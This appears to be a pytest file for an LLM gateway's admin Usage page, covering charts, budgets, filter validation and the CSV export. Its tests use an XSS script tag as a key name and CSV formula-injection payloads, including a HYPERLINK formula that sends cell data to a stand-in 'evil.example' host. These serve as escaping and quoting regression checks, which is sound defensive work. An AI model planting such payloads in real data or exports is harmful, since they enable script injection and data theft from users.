"""The console's Usage page over the real spend counters (in-process storage) and the
real admin router: charts per key with the prompt/completion split, the route/variant
table, budgets against their alert threshold, the period and key filters (validated),
the CSV download (the same rows as ``litegate usage --csv``) and the bound on charts."""

from __future__ import annotations

import csv
import io
import re
import time
from typing import Any

import pytest
from limits.storage import storage_from_string
from litestar.testing import AsyncTestClient

from litegate.policies.spend import DAY, Spend
from litegate.services import keys as key_service
from litegate.services.config import apply_document
from litegate.services.schema import BudgetIn, parse_document
from litegate.snapshot import build_snapshot
from tests.e2e.support import login, make_admin_gateway, make_app
from tests.helpers.cli import chat_config

XSS = "<script>alert(1)</script>"


def priced_doc() -> dict[str, Any]:
    doc = chat_config("http://127.0.0.1:9/v1")
    doc["routes"][0]["variants"] = [
        {"upstream": "mock", "model": "small-model", "weight": 90,
         "price": {"input_per_1m": 0.15, "output_per_1m": 0.60}},
        {"upstream": "mock", "model": "big-model", "weight": 10,
         "price": {"input_per_1m": 2.5, "output_per_1m": 10}},
    ]
    return doc


async def seed(gw: Any, names: list[str], budget: dict[str, BudgetIn]) -> dict[str, Any]:
    async with gw.sessionmaker() as session, session.begin():
        await apply_document(session, parse_document(priced_doc()), actor="test")
        for name in names:
            await key_service.create_key(session, name=name, actor="test",
                                         budget=budget.get(name))
    async with gw.sessionmaker() as session:
        snapshot = await build_snapshot(session)
    return {k.name: k for k in snapshot.keys.values()} | {"_route": snapshot.routes["chat"]}


def cells(html: str, table: str) -> list[dict[str, str]]:
    """``data-metric`` cells of each row of the table with id ``table``."""
    body = html.split(f'id="{table}"', 1)[1].split("</table>", 1)[0]
    rows = []
    for tr in re.findall(r"<tr data-key=\"([^\"]*)\"(.*?)</tr>", body, re.S):
        row = {"key": tr[0]}
        row.update(re.findall(r'data-metric="(\w+)">(?:<span[^>]*>)?([^<]*)', tr[1]))
        rows.append(row)
    return rows


async def test_usage_page_charts_tables_budgets_and_csv(admin_console):
    gw, client = admin_console
    specs = await seed(gw, ["alice", "bob", XSS],
                       {"alice": BudgetIn(max_usd=0.0005, period="30d", alert_at=0.2),
                        "bob": BudgetIn(max_usd=1, period="1d", alert_at=0.8)})
    small, big = specs["_route"].variants
    spend: Spend = gw.spend
    now = time.time()
    for _ in range(3):
        await spend.record(specs["alice"], "chat", small, 100, 50, now=now)
    await spend.record(specs["alice"], "chat", big, 10, 20, now=now - 2 * DAY)
    await spend.record(specs["bob"], "chat", small, 5, 7, now=now - 20 * DAY)
    await spend.record(specs[XSS], "chat", small, 1, 1, now=now)

    r = await client.get("/admin/usage")  # 7 days by default
    assert r.status_code == 200
    html = r.text
    assert 'href="/admin/usage" class="active"' in html  # the nav entry
    assert XSS not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    alice_cost = 3 * (100 * 150 + 50 * 600) + 10 * 2_500 + 20 * 10_000
    keys = {row["key"]: row for row in cells(html, "usage-keys")}
    assert set(keys) == {"alice", "&lt;script&gt;alert(1)&lt;/script&gt;"}  # bob: 20 days ago
    assert keys["alice"] == {"key": "alice", "requests": "4", "prompt_tokens": "310",
                             "completion_tokens": "170", "cost": f"${alice_cost / 1e9:.6f}"}
    rows = re.findall(r'data-key="alice" data-route="chat" data-variant="([\w-]+)">.*?'
                      r'data-metric="requests">(\d+)', html)
    assert rows == [("small-model", "3"), ("big-model", "1")]
    # Two charts per key with traffic: tokens (prompt and completion stacked) and spend.
    assert 'aria-label="alice: tokens per day"' in html
    assert 'aria-label="alice: spend per day (USD)"' in html
    assert html.count('class="chart"') == 4
    assert "<title>" + time.strftime("%m-%d", time.gmtime(now)) + ": prompt 300, completion 150" \
        in html
    budgets = {row["key"]: row for row in cells(html, "usage-budgets")}
    # The budget counts the current 30-day window (aligned to the epoch), which may have
    # begun after the request of two days ago.
    window = 30 * DAY
    spent = alice_cost - (0 if now // window == (now - 2 * DAY) // window else 225_000)
    # Past the alert at a fifth of $0.0005, not exceeded.
    assert budgets["alice"] == {"key": "alice", "spent": f"${spent / 1e9:.6f}",
                                "max": "$0.0005", "state": "alert"}
    assert "20.0% ($0.0001)" in html and f"{spent / 500_000:.1%}" in html
    # bob's 1-day budget period holds nothing of 20 days ago.
    assert budgets["bob"]["state"] == "ok" and budgets["bob"]["spent"] == "$0.000000"

    html = (await client.get("/admin/usage", params={"period": "30d", "key": "bob"})).text
    assert [row["key"] for row in cells(html, "usage-keys")] == ["bob"]
    assert list(budgets) == ["alice", "bob"] and [b["key"] for b in cells(html, "usage-budgets")] \
        == ["bob"]
    assert 'href="/admin/usage.csv?period=30d&amp;key=bob"' in html

    today = (await client.get("/admin/usage", params={"period": "1d"})).text
    assert cells(today, "usage-keys")[0] == keys["alice"] | {
        "requests": "3", "prompt_tokens": "300", "completion_tokens": "150",
        "cost": f"${3 * (100 * 150 + 50 * 600) / 1e9:.6f}"}

    r = await client.get("/admin/usage.csv", params={"period": "30d"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.headers["content-disposition"] == 'attachment; filename="usage-30d.csv"'
    got = [(row["key"], row["variant"], row["requests"], row["prompt_tokens"],
            row["completion_tokens"], row["cost_usd"]) for row in csv.DictReader(io.StringIO(r.text))]
    assert got == [
        (XSS, "small-model", "1", "1", "1", str(750 / 1e9)),
        ("alice", "small-model", "3", "300", "150", str(3 * 45_000 / 1e9)),
        ("alice", "big-model", "1", "10", "20", str(225_000 / 1e9)),
        ("bob", "small-model", "1", "5", "7", str(4_950 / 1e9)),
    ]


@pytest.mark.parametrize("params", [
    {"period": "5y"}, {"period": "24h"}, {"period": "7d" * 300}, {"key": "nobody"},
    {"key": "x" * 5000},
])
async def test_bad_filters_are_400_not_500(admin_console, params):
    gw, client = admin_console
    await seed(gw, ["alice"], {})
    for path in ("/admin/usage", "/admin/usage.csv"):
        r = await client.get(path, params=params, headers={"accept": "text/html"})
        assert r.status_code == 400, (path, params, r.status_code)
        assert "period must be one of 1d, 7d, 30d, 90d" in r.text or "active API key" in r.text


async def test_charts_are_bounded_and_the_rest_is_listed(admin_console):
    gw, client = admin_console
    names = [f"team-{i:02d}" for i in range(15)]
    specs = await seed(gw, names, {})
    small = specs["_route"].variants[0]
    for i, name in enumerate(names):
        await gw.spend.record(specs[name], "chat", small, 10 * (i + 1), 1)
    html = (await client.get("/admin/usage")).text
    assert len(cells(html, "usage-keys")) == 15
    assert html.count('class="chart"') == 2 * 12
    # The costliest keys are drawn; the rest are named in the table and found by the filter.
    assert 'aria-label="team-14: tokens per day"' in html
    assert 'aria-label="team-02: tokens per day"' not in html
    assert "3 more keys not drawn" in html


async def test_counters_unreachable_is_503_not_500(tmp_path):
    gw = await make_admin_gateway(tmp_path)
    gw.spend = Spend(storage_from_string("async+redis://127.0.0.1:9/0"))
    app, _ = make_app(gw)
    async with AsyncTestClient(app) as client:
        assert (await login(client)).status_code == 303
        await seed(gw, ["alice"], {})
        r = await client.get("/admin/usage", headers={"accept": "text/html"})
        assert r.status_code == 503 and "usage counters unavailable" in r.text
        assert "Redis (LITEGATE_REDIS) is reachable" in r.text  # what to fix
    await gw.engine.dispose()


async def test_usage_csv_cannot_carry_a_spreadsheet_formula(admin_console):
    """Key names are free text (a write token can choose one): before the fix a key
    named ``=HYPERLINK(...)`` reached the CSV as is, and a spreadsheet opening the
    download ran it. Cells that a spreadsheet reads as a formula are quoted with ``'``."""
    gw, client = admin_console
    # (A leading tab or CR is quoted too, but key names can no longer hold control
    # characters: 9403a8f refuses them at creation.)
    names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd", "-2", "@SUM(1)",
             "plain"]
    specs = await seed(gw, names, {})
    small = specs["_route"].variants[0]
    for name in names:
        await gw.spend.record(specs[name], "chat", small, 1, 1, now=time.time())
    r = await client.get("/admin/usage.csv", params={"period": "1d"})
    assert r.status_code == 200
    keys = sorted(row["key"] for row in csv.DictReader(io.StringIO(r.text)))
    assert keys == sorted(["'" + n for n in names[:-1]] + ["plain"])
